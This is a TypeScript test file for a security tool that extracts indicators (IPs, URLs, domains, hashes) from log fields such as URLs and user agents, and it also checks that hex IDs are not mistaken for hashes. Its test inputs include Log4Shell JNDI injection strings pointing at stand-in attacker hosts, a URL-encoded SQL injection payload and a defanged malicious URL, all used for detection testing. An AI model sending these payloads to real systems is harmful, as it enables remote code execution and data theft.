import { describe, expect, it } from 'vitest'
import type { JsonObject } from '../json-object.ts'
import { foundAs, observablesIn } from './found.ts'

const digest = '9d9af54a1f529906a03112636f642478'
const said = (body: JsonObject) => observablesIn(body).map(({ type, value, role }) => `${role} ${type} ${value}`)

describe('what is inside a known field', () => {
  it.each<[field: string, text: string, ...mentioned: string[]]>([
    [
      'url.original',
      `/?x=\${jndi:ldap://198.51.100.200:1389/a}`,
      'url ldap://198.51.100.200:1389/a',
      'ip 198.51.100.200',
    ],
    [
      'url.full',
      'https://a.example/?x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.200%3A1389%2Fa%7D',
      ...['url ldap://198.51.100.200:1389/a', 'ip 198.51.100.200'],
    ],
    ['url', 'http://a.com/?u=http%3A%2F%2Fb.com%2Fx&v=evil.com', 'url http://b.com/x', 'domain evil.com'],
    ['url', 'http://a.com/?u=http%253A%252F%252Fb.com', ...[]],
    ['url', 'http://a.com/%zz%ff%?h=203.0.113.9', 'ip 203.0.113.9'],
    ['url', 'hxxp[:]//evil[.]com/a{b}', ...[]],
    ['url', 'https://a.com/index.php?id=1%27%20OR%20%271%27=%271', ...[]],
    ['http_user_agent', `\${jndi:rmi://evil.com/a}`, 'url rmi://evil.com/a', 'domain evil.com'],
    ['user_agent.original', 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/120.0.0.0', ...[]],
  ])('%s %s', (field, text, ...mentioned) => {
    const [itself, ...inside] = observablesIn({ [field]: text })
    expect(itself).toMatchObject({ value: text, path: field })
    expect(inside.map(({ type, value }) => `${type} ${value}`)).toEqual(mentioned)
    expect(inside.every(({ role, path }) => role === 'mentioned' && path === field)).toBe(true)
  })

  it('is found in what Suricata names too', () => {
    const found = foundAs('user-agent', `\${jndi:ldap://203.0.113.9/a}`, 'mentioned', 'http.http_user_agent')
    expect(found.map(({ type }) => type)).toEqual(['user-agent', 'url', 'ip'])
  })

  it.each(['%', '&', '%26', '%24%7B', 'http://', '%3A%2F%2F', '://', '['])('ends on a long run of %j', piece => {
    const text = `/?${piece.repeat(Math.ceil(60_000 / piece.length))}& 203.0.113.9 `
    expect(said({ url: text })).toContain('mentioned ip 203.0.113.9')
  })
})

describe('an id in hex digits', () => {
  it.each([
    { process: { entity_id: digest } },
    { 'process.entity_id': digest },
    { 'kibana.alert.group.id': digest },
    { kibana: { alert: { group: { id: digest } } } },
    { a: { uuid: digest } },
    { ProcessGuid: digest },
    { id: digest },
    { trace_id: digest },
    { agentId: [digest] },
  ])('is no hash: %j', body => {
    expect(said(body)).toEqual([])
  })

  it('may stand beside what is one, and hold other observables', () => {
    expect(said({ id: `${digest} 203.0.113.9`, paid: digest, 'file.hash.md5': digest })).toEqual([
      'mentioned ip 203.0.113.9',
      `mentioned hash ${digest}`,
      `indicator hash ${digest}`,
    ])
  })
})
